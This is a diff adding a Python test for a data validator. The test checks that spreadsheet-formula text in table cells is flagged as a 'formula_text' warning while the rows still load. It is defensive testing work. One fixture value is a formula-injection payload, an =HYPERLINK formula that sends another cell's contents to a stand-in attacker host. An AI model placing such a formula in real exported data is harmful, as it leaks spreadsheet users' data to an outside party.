@@ -116,6 +116,27 @@ def test_clean_company_passes_and_loads_every_row(tmp_path: Path) -> None:
     assert not (tmp_path / "q").exists() or not any((tmp_path / "q").iterdir())
 
 
+def test_text_a_spreadsheet_would_run_is_warned_about_and_loaded(tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'
+    tables = tiny_tables()
+    tables["accounts"].append({**tables["accounts"][2], "account_id": hyperlink})
+    tables["accounts"].append({**tables["accounts"][2], "account_id": "a4",
+                               "name": "-Minus Ltd"})
+    tables["accounts"][1]["csm"] = "@everyone"
+    folder = write_tables(tmp_path / "raw", tables)
+
+    history = _validate(folder, strict=True, quarantine=tmp_path / "q")  # a warning, not a refusal
+
+    report = history.report.tables["accounts"]
+    assert history.report.ok and report.rows_loaded == 5 and not report.issues
+    assert [(w.table, w.column, w.rule, w.rows, w.examples) for w in history.report.warnings] == [
+        ("accounts", "account_id", "formula_text", 1, [{"account_id": hyperlink}]),
+        ("accounts", "name", "formula_text", 1, [{"name": "-Minus Ltd"}]),
+        ("accounts", "csm", "formula_text", 1, [{"csm": "@everyone"}])]
+    assert "spreadsheet would run it as a formula" in report.warnings[0].message
+    assert history.report.to_dict()["tables"]["accounts"]["warnings"][0]["rows"] == 1
+
+
 def test_strict_mode_refuses_and_writes_no_quarantine(tmp_path: Path) -> None:
     tables = tiny_tables()
     tables["surveys"][0]["score"] = 11
